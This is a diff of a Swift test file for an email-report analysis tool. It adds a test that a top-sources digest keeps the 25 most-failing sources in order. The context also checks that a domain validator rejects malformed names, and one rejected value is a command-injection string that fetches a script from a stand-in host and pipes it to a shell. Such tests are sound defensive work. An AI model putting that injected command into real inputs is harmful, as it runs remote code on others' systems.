@@ -1,5 +1,5 @@
 import Foundation
-import ReportAnalysis
+@testable import ReportAnalysis
 import ReportModel
 import ReportPipeline
 import ReportStore
@@ -181,5 +181,24 @@ func twoWeeks() -> [SyntheticReport] {
         #expect(!DomainName.isValid("x.com;curl${IFS}evil.sh|sh"))
         #expect(!DomainName.isValid("a..b"))
         #expect(!DomainName.isValid(String(repeating: "a", count: 64) + ".com"))
+    }
+}
+
+/// The digest keeps the first sources of any number without holding them all.
+@Suite struct TopSourcesTests {
+    @Test func theKeptSourcesAreTheFirstOfAllInTheirOrder() {
+        var generator = SystemRandomNumberGenerator()
+        let all = (0..<1_000).map { index in
+            SourceActivity(
+                policyDomain: "d\(index % 7).example", sourceIP: "192.0.2.\(index % 250)",
+                messages: Double(Int.random(in: 1...500, using: &generator)),
+                dmarcPass: Double(Int.random(in: 0...1, using: &generator)), seenBefore: false, earlierMessages: 0,
+                earlierPass: 0, headerFrom: [])
+        }
+        var top = TopSources(limit: 25)
+        for source in all { top.add(source) }
+        let expected = Array(all.sorted(by: DigestBuilder.mostFailingFirst).prefix(25))
+        #expect(top.ranked.map { [$0.policyDomain, $0.sourceIP, "\($0.messages)"] }
+            == expected.map { [$0.policyDomain, $0.sourceIP, "\($0.messages)"] })
     }
 }
